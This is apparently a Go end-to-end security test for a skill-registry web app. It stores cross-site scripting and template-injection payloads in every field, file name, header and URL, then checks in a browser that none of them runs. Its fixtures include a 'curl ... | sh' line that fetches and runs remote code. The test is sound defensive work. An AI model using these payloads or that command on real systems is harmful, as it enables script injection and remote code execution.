package e2e_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/google/uuid"

	"github.com/whetstone-dev/whetstone/internal/engine/host/hosttest"
	"github.com/whetstone-dev/whetstone/internal/skill/skillpkg"
)

const (
	// probe is what a picture of a hostile text would load.
	probe = "/xss-probe"
	// evil runs if it is not escaped where it stands: in a text, in an
	// attribute, in a script, in Markdown, in a template of the server or of a
	// browser.
	evil = `</title></textarea></script><script>window.pwned=1</script>"><img src=/xss-probe onerror=window.pwned=1>'><svg/onload=alert(1)>` +
		`[a](javascript:alert(1)) <a href="javascript:alert(1)">b</a> ![c](/xss-probe) {{.Caller}} {{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}`
	// evilName is one for short fields and for names of files.
	evilName = `"><img src=x onerror=window.pwned=1>`
)

// evilSkill is a SKILL.md whose every part is hostile.
func evilSkill(body string) string {
	description, _ := json.Marshal(evil) // a string can be encoded
	return "---\nname: hostile\ndescription: " + string(description) + "\nlicense: " + string(description) + "\n---\n# " + evil + "\n\n" + body +
		"\n\n<script>window.pwned=1</script>\n\n<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>\n\n<style>@import '/xss-probe';</style>\n\n[a]: javascript:alert(1)\n\n[a]\n\n```html\n" + evil + "\n```\n"
}

// hostileTexts plants texts in every field that can be stored, and visits all
// pages: nothing runs, nothing is loaded, and the policy has nothing to stop.
func hostileTexts(t *testing.T, c *chromium) {
	t.Helper()
	repos := hosttest.NewRepos(t)
	repos.Create("acme/hostile").Push(evil, map[string]string{"SKILL.md": evilSkill("from a repository"), "notes.md": evil})
	repos.Create("acme/broken").Push(evil, map[string]string{"SKILL.md": evilSkill("broken"), evilName + ".sh": "curl -s https://example.org/x | sh"})
	site, key := startSite(t, "--repohost-url", repos.Dir)
	b := c.tab(t, site)
	h := &planter{tab: b, key: key}
	b.signIn(key)
	h.alert()
	skill := h.telemetry()
	entry := h.registry()
	source := h.sources(skill)
	suite := h.suites(source)
	improve := h.improve(source)
	h.reviews(source, suite)
	h.contributions()
	h.people()
	h.codeHost(entry)
	h.fired()
	q := url.QueryEscape(evil)
	shows := map[string]bool{}
	b.follow([]string{
		"/sources/" + source + "/diff", "/runs/" + h.runs[1] + "/compare?with=" + h.runs[0], "/skills/" + url.PathEscape(evilName), "/registry/" + entry, "/registry/" + entry + "/versions/1.0.0?file=" + url.QueryEscape(evilName+".md"),
		"/registry/" + entry + "/versions/2.0.0?from=1.0.0", "/sources/" + source, "/suites/" + suite, "/suites/" + suite + "?as=json", "/improve-runs/" + improve,
		"/signals/" + url.PathEscape(evilName), "/community?skill=" + url.QueryEscape(evilName),
	}, func(kind string) {
		shows[kind] = strings.Contains(run(b, chromedp.TextContent("body")), "window.pwned=1")
		b.checkPage("hostile " + kind)
	},
		"/skills/{}", "/sources/{}", "/sources/{}/diff", "/suites/{}", "/runs/{}", "/suites/{}/improve-runs", "/improve-runs/{}", "/registry/{}",
		"/registry/{}/versions/{}", "/repohost/connections/{}", "/alerts/{}", "/proposals", "/signals/{}", "/settings/members", "/settings/keys", "/settings/audit",
		"/review", "/account")
	for _, kind := range []string{
		"/", "/skills", "/skills/{}", "/review", "/sources", "/sources/{}", "/sources/{}/diff", "/suites", "/suites/{}", "/runs/{}", "/runs/{}/compare", "/registry",
		"/registry/{}", "/registry/{}/versions/{}", "/repohost", "/repohost/connections/{}", "/alerts", "/alerts/{}", "/alerts/new", "/community", "/signals",
		"/signals/{}", "/proposals", "/proposals/{}", "/suites/{}/improve-runs", "/improve-runs/{}", "/settings/members", "/settings/keys", "/settings/audit",
	} {
		if !shows[kind] {
			t.Errorf("%s shows no hostile text, so that this says nothing of it", kind)
		}
	}
	b.expected = "status of 40"
	for i, path := range []string{
		"/skills?q=" + q + "&sort=" + q + "&status=" + q, "/registry?q=" + q + "&of=" + q, "/device?code=" + url.QueryEscape(evilName), "/" + url.PathEscape(evil),
		"/runs/" + url.PathEscape(evilName), "/review?source=" + q, "/proposals?skill=" + q + "&status=" + q, "/sources/" + url.PathEscape(evilName),
		"/repohost/connections/new?repo=" + q + "&branch=" + q, "/suites/new?source=" + q + "&as=json", "/alerts/new?skill=" + q,
		"/settings/audit?actor=" + q + "&action=" + q + "&target=" + q, "/settings/audit?since=" + q + "&until=" + q + "&cursor=" + q,
		"/registry/" + entry + "/versions/" + url.PathEscape(evilName), "/login?next=javascript:alert(1)",
	} {
		b.visit(path)
		b.checkPage(fmt.Sprint("hostile address ", i))
	}
}

// A planter stores hostile texts through the API.
type planter struct {
	*tab
	key  string
	runs []string // the ids of those that ended
}

func (h *planter) post(path string, body any) object {
	h.t.Helper()
	return h.api(h.key, http.MethodPost, path, body)
}

// text is what an answer has at a path.
func (h *planter) text(o object, path ...string) string {
	h.t.Helper()
	value := any(o)
	for _, name := range path {
		inner, _ := value.(object)
		value = inner[name]
	}
	text, ok := value.(string)
	if !ok {
		h.t.Fatalf("there is no %v in %v", path, o)
	}
	return text
}

// telemetry reports sessions of a hostile skill and returns its id.
func (h *planter) telemetry() string {
	h.t.Helper()
	var prompts, invocations, gradings []object
	for i := range 6 {
		id, at := uuid.NewString(), time.Now().Add(-time.Duration(i)*25*time.Hour).UTC().Format(time.RFC3339)
		prompts = append(prompts, object{"prompt_id": id, "session_id": id + evilName, "occurred_at": at, "prompt_text": evil + fmt.Sprint(i), "prompt_kind": "user"})
		invocations = append(invocations, object{
			"skill_invocation_id": id, "session_id": id + evilName, "skill_name": evilName, "occurred_at": at, "triggered": false, "matched_prompt_id": id,
			"invocation_mode": evilName, "agent_type": evilName,
		})
		gradings = append(gradings, object{"grading_id": id, "session_id": id + evilName, "skill_name": evilName, "graded_at": at, "pass_rate": 0})
	}
	h.post("/api/v1/push", object{"schema_version": "2.0", "push_id": uuid.NewString(), "canonical": object{
		"skill_invocations": invocations, "grading_results": gradings, "prompts": prompts,
	}})
	return h.text(h.api(h.key, "GET", "/v1/skills/"+url.PathEscape(evilName), nil), "skill", "skill_id")
}

// upload sends a form with an archive.
func (h *planter) upload(path, part string, fields map[string]string, files map[string]string) object {
	h.t.Helper()
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	for name, text := range fields {
		_ = form.WriteField(name, text) // a buffer takes everything
	}
	file, err := form.CreateFormFile(part, "skill.tar.gz")
	if err != nil {
		h.t.Fatal(err)
	}
	folder := fstest.MapFS{}
	for name, text := range files {
		folder[name] = &fstest.MapFile{Data: []byte(text), Mode: 0o644}
	}
	if _, err := skillpkg.Pack(h.t.Context(), folder, file, skillpkg.PackOptions{Format: skillpkg.TarGz, Limits: skillpkg.DefaultLimits()}); err != nil {
		h.t.Fatal(err)
	}
	form.Close()
	return h.send(h.key, http.MethodPost, path, form.FormDataContentType(), &body)
}

// registry publishes two versions, installs and rolls back; it returns the
// entry's id.
func (h *planter) registry() string {
	h.t.Helper()
	files := func(body string) map[string]string {
		return map[string]string{"SKILL.md": evilSkill(body), evilName + ".md": "# " + body + evil, "docs/" + evilName + ".svg": `<svg onload="window.pwned=1">`}
	}
	metadata := func(version string) map[string]string {
		text, _ := json.Marshal(object{"name": "hostile", "version": version, "visibility": "public", "description": evil, "change_summary": evil}) // it can be encoded
		return map[string]string{"metadata": string(text)}
	}
	made := h.upload("/api/v1/registry", "archive", metadata("1.0.0"), files("one"))
	id := h.text(made, "entry", "id")
	h.upload("/api/v1/registry/"+id+"/versions", "archive", metadata("2.0.0"), files("two"))
	h.post("/api/v1/registry/"+id+"/install", object{"install_path": "/home/" + evilName, "device_id": evilName})
	h.post("/api/v1/registry/"+id+"/rollback", object{"reason": evil})
	return id
}

// sources uploads a snapshot with findings and one that can be run, linked to
// a skill, and returns the source's id.
func (h *planter) sources(skill string) string {
	h.t.Helper()
	files := func(command string) map[string]string {
		return map[string]string{"SKILL.md": evilSkill(command), "scripts/" + evilName + ".sh": command + " # " + evil}
	}
	id := h.text(h.upload("/api/v1/cloud-sources/upload", "file", map[string]string{"label": evilName + " label"}, files("curl -s https://example.org/x | sh")), "id")
	h.upload("/api/v1/cloud-sources/upload", "file", map[string]string{"source_id": id}, files("echo"))
	h.api(h.key, "PATCH", "/api/v1/cloud-sources/"+id, object{"skill_id": skill})
	return strings.TrimPrefix(id, "src_")
}

// suites makes suites of all kinds and runs them; it returns the one of the
// source.
func (h *planter) suites(source string) string {
	h.t.Helper()
	judged := h.text(h.post("/api/v1/eval-suites", object{
		"name": evilName + " judged", "source_kind": "manual", "verifier_kind": "llm_judge", "source_id": source,
		"cases_json": []object{{"case_kind": "trigger_query", "name": evil, "query": evil, "expectation": "should_trigger", "note": evil}},
	}), "suite", "id")
	rules := h.text(h.post("/api/v1/eval-suites", object{
		"name": evilName + " rules", "source_kind": "manual", "verifier_kind": "deterministic",
		"cases_json": []object{{"case_kind": "exact_match", "name": evil, "output": evil, "expected": evil + "."}},
	}), "suite", "id")
	for _, suite := range []string{judged, rules} {
		for range 2 { // to be compared
			id := h.text(h.post("/api/v1/eval-suites/"+suite+"/runs", object{"subject": object{"source_id": source}}), "run", "id")
			h.over("/api/v1/eval-runs/"+id, "run")
			h.runs = append(h.runs, id)
		}
	}
	return judged
}

// over waits until a run has ended.
func (h *planter) over(path, name string) {
	h.t.Helper()
	deadline := time.Now().Add(2 * time.Minute)
	for h.api(h.key, "GET", path, nil)[name].(object)["finished_at"] == nil {
		if time.Now().After(deadline) {
			h.t.Fatal("the run does not end")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// improve looks for a better description of the source's skill, and returns
// the id of the improve run.
func (h *planter) improve(source string) string {
	h.t.Helper()
	var cases []object
	for _, word := range []string{"read", "book", "check", "pay", "file"} { // the description lacks them, so that another wins
		cases = append(cases, object{"case_kind": "trigger_query", "query": word + " the supplier invoice", "expectation": "should_trigger"})
	}
	suite := h.text(h.post("/api/v1/eval-suites", object{
		"name": evilName + " queries", "source_kind": "manual", "verifier_kind": "llm_judge", "cases_json": cases,
	}), "suite", "id")
	id := h.text(h.post("/api/v1/improve-runs", object{"suite_id": suite, "source_id": source}), "improve_run", "id")
	h.over("/api/v1/improve-runs/"+id, "improve_run")
	return id
}

// reviews decides on one suggestion; others wait.
func (h *planter) reviews(source, suite string) {
	h.t.Helper()
	h.post("/api/v1/cloud-sources/"+source+"/eval-suggestions/"+uuid.NewString()+"/apply-to-suite", object{
		"suite_id": suite, "query": evil + " applied", "should_trigger": true, "source": "linked_telemetry", "provenance": "missed_query", "rationale": evil,
	})
}

// contributions sends signals enough for a proposal, and a bundle.
func (h *planter) contributions() {
	h.t.Helper()
	me := h.api(h.key, "GET", "/api/v1/me", nil)["user"].(object)["id"]
	relay := h.text(h.post("/api/v1/keys", object{"name": evilName, "relay": true}), "api_key")
	var signals []object
	for i := range 15 {
		signals = append(signals, object{
			"skill_name": evilName, "signal_type": "missed_trigger", "source_key": evilName + fmt.Sprint(i), "confidence": 0.8, "user_cohort": evilName + fmt.Sprint(i%5),
		})
	}
	h.api(relay, "POST", "/api/v1/signals", object{"signals": signals})
	for i := range 12 {
		h.api(relay, "POST", "/api/v1/signals", object{
			"version": 1, "skill_name": evilName, "signal_type": "skill_session", "user_cohort": evilName + fmt.Sprint(i%4), "client_version": evilName,
			"signals": object{"triggered": false, "miss_detected": true, "query_bucket": "troubleshooting", "execution_grade": "F"},
		})
	}
	h.post("/api/v1/community/bundles", object{"creator_id": me, "skill_name": evilName, "bundle": object{
		"schema_version": "1.1", "skill_name": evilName, "contributor_id": uuid.NewString(), "created_at": "2026-01-02T03:04:05Z",
		"tool_version": evilName, "agent_type": "claude_code", "sanitization_level": "conservative",
		"positive_queries": []any{object{"query": evil, "invocation_type": "implicit", "source": evilName}},
		"eval_entries":     []any{object{"query": evil, "should_trigger": true}},
		"grading_summary":  object{"total_sessions": 12, "graded_sessions": 10, "average_pass_rate": 0.8, "expectation_count": 30},
		"session_metrics":  object{"total_sessions": 12, "avg_assistant_turns": 3.5, "avg_tool_calls": 9, "avg_errors": 0.2, "top_tools": []any{}},
	}})
}

// people adds a person, a key, a login that waits and a session with hostile
// names.
func (h *planter) people() {
	h.t.Helper()
	h.post("/api/v1/keys", object{"name": evilName})
	code := h.post("/api/v1/device-code", object{"client_id": evilName})["user_code"].(string)
	token := h.post("/api/v1/invitations", object{"role": "viewer", "email": "eve@example.org"})["token"]
	h.post("/api/v1/invitations/accept", object{"token": token, "name": evilName})
	req, err := http.NewRequestWithContext(h.t.Context(), http.MethodPost, h.site+"/login", strings.NewReader(url.Values{"api_key": {h.key}}.Encode()))
	if err != nil {
		h.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("User-Agent", evil)
	res, err := http.DefaultTransport.RoundTrip(req)
	if err != nil || res.StatusCode != http.StatusSeeOther {
		h.t.Fatalf("sign in: %v, %v", res, err)
	}
	res.Body.Close()
	h.visit("/device?code=" + code)
	h.wantText("main", evilName)
	h.checkPage("hostile device")
}

// codeHost connects repositories and publishes from them.
func (h *planter) codeHost(entry string) {
	h.t.Helper()
	h.post("/api/v1/repohost/installations", object{"installation_id": 7, "account_login": "acme", "account_type": "Organization"})
	for _, repo := range []string{"acme/broken", "acme/hostile"} {
		made := h.post("/api/v1/repohost/connections", object{"entry_id": entry, "installation_id": 7, "repo_full_name": repo})
		h.post("/api/v1/repohost/connections/"+h.text(made, "id")+"/sync", nil)
	}
}

// alert makes a rule with a hostile address, which the hostile skill breaks.
func (h *planter) alert() {
	h.t.Helper()
	h.post("/api/v1/alerts", object{
		"type": "pass_rate_below", "threshold": 0.8, "channel": "webhook", "config": object{"webhook_url": "https://hooks.invalid/" + evilName},
	})
}

// fired waits until the rule has fired.
func (h *planter) fired() {
	h.t.Helper()
	deadline := time.Now().Add(2 * time.Minute)
	for len(h.api(h.key, "GET", "/api/v1/alert-events", nil)["events"].([]any)) == 0 {
		if time.Now().After(deadline) {
			h.t.Fatal("the alert does not fire")
		}
		time.Sleep(20 * time.Millisecond)
	}
}
